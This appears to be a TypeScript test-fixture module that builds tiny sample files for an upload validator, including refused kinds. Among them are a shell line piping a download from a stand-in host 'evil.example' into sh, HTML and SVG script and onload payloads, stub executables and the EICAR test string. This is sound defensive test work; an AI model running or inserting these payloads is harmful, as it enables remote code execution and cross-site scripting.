/*
 * Sample files for tests of uploads (issue 33): the smallest bytes each accepted kind is recognised
 * by, and the refused ones (an executable, HTML, SVG with a script, a script). Built here rather than
 * checked in, so a test says what it sends. EICAR is the antivirus industry's harmless test file:
 * every scanner reports it (as Eicar-Test-Signature with the harness's database, src/testing/clamd.ts).
 */
import { crc32 } from 'node:zlib';

/** `size` zero bytes with little-endian integers written at offsets: [offset, bits, value]. */
function fields(size: number, values: Array<[offset: number, bits: 16 | 32, value: number]>): Buffer {
  const bytes = Buffer.alloc(size);
  for (const [offset, bits, value] of values) {
    if (bits === 16) bytes.writeUInt16LE(value, offset);
    else bytes.writeUInt32LE(value, offset);
  }
  return bytes;
}

/** A ZIP of stored (uncompressed) entries: enough for file-type to tell Office documents from archives. */
export function storedZip(entries: Array<{ name: string; content: string | Buffer }>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const data = Buffer.isBuffer(entry.content) ? entry.content : Buffer.from(entry.content, 'utf8');
    const crc = crc32(data);
    // The local header and the central directory's record share the CRC, sizes and name length at different offsets.
    const local = fields(30, [[0, 32, 0x04034b50], [4, 16, 20], [14, 32, crc], [18, 32, data.length], [22, 32, data.length], [26, 16, name.length]]);
    const central = fields(46, [
      [0, 32, 0x02014b50],
      [4, 16, 20],
      [6, 16, 20],
      [16, 32, crc],
      [20, 32, data.length],
      [24, 32, data.length],
      [28, 16, name.length],
      [42, 32, offset],
    ]);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = fields(22, [[0, 32, 0x06054b50], [8, 16, entries.length], [10, 16, entries.length], [12, 32, directory.length], [16, 32, offset]]);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;

/** An OLE compound file (the old Office format) whose directory names `stream` (UTF-16LE), padded to `size`. */
function compoundFile(stream: string, size = 4096): Buffer {
  const bytes = fields(size, [[24, 16, 0x003e], [26, 16, 0x0003], [28, 16, 0xfffe], [30, 16, 0x0009]]);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes, 0);
  Buffer.from('Root Entry', 'utf16le').copy(bytes, 1024);
  Buffer.from(stream, 'utf16le').copy(bytes, 1024 + 128);
  return bytes;
}

/** The EICAR test file (68 bytes): harmless, reported by every scanner. */
export const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*', 'ascii');

export const SAMPLES = {
  pdf: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  png: Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    Buffer.from('0000000d49484452000000010000000108060000001f15c489', 'hex'),
    Buffer.from('0000000a49444154789c63000100000500010d0a2db4', 'hex'),
    Buffer.from('0000000049454e44ae426082', 'hex'),
  ]),
  jpeg: Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(64, 0x20), Buffer.from('ffd9', 'hex')]),
  heic: Buffer.concat([Buffer.from('00000018667479706865696300000000686569636d696631', 'hex'), Buffer.alloc(64)]),
  tiff: Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(64)]),
  docx: storedZip([
    { name: '[Content_Types].xml', content: CONTENT_TYPES('word/document.xml') },
    { name: 'word/document.xml', content: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>' },
  ]),
  doc: compoundFile('WordDocument'),
  xls: compoundFile('Workbook'),
  zip: storedZip([{ name: 'receipts/2026-11.txt', content: 'Taxi 12.50\n' }]),
  csv: Buffer.from('date,amount,description\n2026-11-02,12.50,Taxi to client\n2026-11-03,4.20,Coffee – 영수증\n', 'utf8'),
  txt: Buffer.from('Notes for the 2026 return.\nDonations: 3 receipts.\n', 'utf8'),
} as const;

/** Refused kinds: each must be 415 whatever its name says. */
export const REFUSED = {
  /** A Windows executable ("MZ", a PE header) named like a PDF. */
  exe: Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000000000000000000000000000000000000000000000000000800000', 'hex'), Buffer.alloc(64), Buffer.from('PE\0\0', 'latin1'), Buffer.alloc(200)]),
  /** An ELF binary. */
  elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]),
  html: Buffer.from('<!doctype html><html><body><script>fetch("/api/me")</script></body></html>\n', 'utf8'),
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n', 'utf8'),
  /** An SVG after a BOM and blank lines: still markup. */
  svgPadded: Buffer.from('\uFEFF\n\n  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n', 'utf8'),
  script: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n', 'utf8'),
  /** Text with a NUL: binary, not text. */
  binary: Buffer.from('looks like text\u0000but is not', 'utf8'),
  /** Invalid UTF-8. */
  latin1: Buffer.from([0x47, 0x72, 0xfc, 0xdf, 0x65, 0x0a]),
  /** An OLE compound file that is no Office document (an installer, say). */
  msi: compoundFile('\u4840\u3b3f\u4577'),
  empty: Buffer.alloc(0),
} as const;
